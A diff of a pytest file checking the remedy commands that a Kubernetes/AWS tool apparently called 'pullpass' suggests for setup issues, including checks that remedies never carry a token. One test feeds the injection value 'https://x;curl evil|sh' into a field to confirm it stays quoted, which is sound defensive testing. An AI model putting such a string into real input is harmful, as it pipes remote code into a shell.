@@ -10,6 +10,7 @@ import pytest
 
 from schemas.issue_kinds import IssueKind
 from schemas.issues import KINDS, VALUES, issue
+from web.presentation import remedy_parts
 
 # Every code that the controller and the agent may speak in.
 CODES = [
@@ -68,6 +69,7 @@ CODES = [
     "NodeRolledBack",
     "NodeWaiting",
     "NodeFailed",
+    "NodeRoleMayNotPull",
     "PluginFailed",
     "NodesNotCleaned",
     "KubernetesTooOldForServiceAccounts",
@@ -113,7 +115,8 @@ def test_every_code_has_a_section_in_the_documentation() -> None:
 
 
 def named(kind: IssueKind) -> set[str]:
-    parts = [*string.Formatter().parse(kind.message), *string.Formatter().parse(kind.remedy)]
+    templates = (kind.message, kind.remedy, kind.of_other_role)
+    parts = [part for template in templates for part in string.Formatter().parse(template)]
     assert not any(form or conversion for _, _, form, conversion in parts)
     return {name for _, name, _, _ in parts if name is not None}
 
@@ -141,6 +144,38 @@ def test_an_issue_with_all_values_leaves_no_placeholder(code: str) -> None:
     [
         ("ConnectionMissing", "pullpass connect demo --org acme --context CONTEXT"),
         (
+            "IssuerNotUsable",
+            (
+                "Let the hub publish the issuer (PULLPASS_PUBLIC_URL must be an https:// URL without a port):"
+                " pullpass addons enable demo awsWorkloadIdentity --org acme --issuer published"
+            ),
+        ),
+        *(
+            (code, "With credentials for account 123456789012: pullpass aws setup demo --org acme")
+            for code in (
+                "OidcProviderMissing",
+                "AudienceNotAllowed",
+                "TrustPolicyMismatch",
+                "EcrAccessDenied",
+            )
+        ),
+        (
+            "EksNoAccessEntry",
+            (
+                "In the cluster's account: aws eks create-access-entry --cluster-name prod --region eu-central-1"
+                " --principal-arn arn:aws:iam::210987654321:role/teams/deploy --kubernetes-groups pullpass-hub"
+            ),
+        ),
+    ],
+)
+def test_a_remedy_is_the_exact_command(code: str, remedy: str) -> None:
+    assert issue(code, VALUES_OF_DEMO).remedy == remedy
+
+
+@pytest.mark.parametrize(
+    ("code", "remedy"),
+    [
+        (
             "OidcProviderMissing",
             (
                 "In account 123456789012: aws iam create-open-id-connect-provider"
@@ -157,16 +192,8 @@ def test_an_issue_with_all_values_leaves_no_placeholder(code: str) -> None:
         (
             "TrustPolicyMismatch",
             (
-                'curl -sf -H "Authorization: Bearer $PULLPASS_TOKEN"'
-                ' "$PULLPASS_ENDPOINT"/org/acme/mk8s/demo/-addons/awsECR/trustPolicy > trust-policy.json'
-                " && aws iam update-assume-role-policy --role-name pull --policy-document file://trust-policy.json"
-            ),
-        ),
-        (
-            "EksNoAccessEntry",
-            (
-                "In the cluster's account: aws eks create-access-entry --cluster-name prod --region eu-central-1"
-                " --principal-arn arn:aws:iam::210987654321:role/teams/deploy --kubernetes-groups pullpass-hub"
+                "Add the statement that this prints to the trust policy of arn:aws-cn:iam::123456789012:role/pull, with the"
+                " provider of account 123456789012: pullpass trust-policy demo --org acme --only"
             ),
         ),
         (
@@ -176,10 +203,31 @@ def test_an_issue_with_all_values_leaves_no_placeholder(code: str) -> None:
                 " --policy-arn arn:aws-cn:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly"
             ),
         ),
+        ("ConnectionMissing", "pullpass connect demo --org acme --context CONTEXT"),
     ],
 )
-def test_a_remedy_is_the_exact_command(code: str, remedy: str) -> None:
-    assert issue(code, VALUES_OF_DEMO).remedy == remedy
+def test_a_role_that_setup_does_not_look_after_is_mended_by_hand(code: str, remedy: str) -> None:
+    assert issue(code, VALUES_OF_DEMO, other_role=True).remedy == remedy
+
+
+PROGRAMS = {"aws", "curl", "kubectl", "pullpass"}
+
+
+@pytest.mark.parametrize("other_role", [False, True])
+@pytest.mark.parametrize("code", CODES)
+def test_a_remedy_ends_with_its_command_which_a_shell_reads(code: str, other_role: bool) -> None:
+    remedy = issue(code, dict.fromkeys(VALUES, "x"), other_role=other_role).remedy
+    found = remedy_parts(remedy)
+    assert found["words"] or found["command"]
+    words = shlex.split(found["command"])
+    simple = [index + 1 for index, word in enumerate(words) if word in {"&&", "|"}]
+    assert {words[index] for index in ([0, *simple] if words else [])} <= PROGRAMS
+    assert not [word for word in words if word.endswith((",", ".", ";"))]
+
+
+@pytest.mark.parametrize("code", CODES)
+def test_no_remedy_speaks_to_the_hub_past_the_command_line(code: str) -> None:
+    assert "PULLPASS_TOKEN" not in KINDS[code].remedy + KINDS[code].of_other_role
 
 
 @pytest.mark.parametrize("code", ["DeployRoleRefused", "DeployRoleOpen"])
@@ -210,14 +258,15 @@ def test_the_flags_of_a_published_issuer_stand_as_they_are() -> None:
 
 @pytest.mark.parametrize("values", [{}, {"ACCOUNT": "", "ISSUER": ""}])
 def test_a_missing_value_stays_for_the_user_to_fill_in(values: dict[str, str]) -> None:
-    assert issue("OidcProviderMissing", values).remedy == (
+    assert issue("OidcProviderMissing", values, other_role=True).remedy == (
         "In account ${AWS_ACCOUNT_ID}: aws iam create-open-id-connect-provider"
         " --url ${ISSUER} --client-id-list ${AUDIENCE}"
     )
 
 
 def test_a_value_cannot_smuggle_a_command_into_a_remedy() -> None:
-    found = issue("OidcProviderMissing", {**VALUES_OF_DEMO, "ISSUER": "https://x;curl evil|sh"})
+    values = {**VALUES_OF_DEMO, "ISSUER": "https://x;curl evil|sh"}
+    found = issue("OidcProviderMissing", values, other_role=True)
     assert "--url 'https://x;curl evil|sh' " in found.remedy
 
 
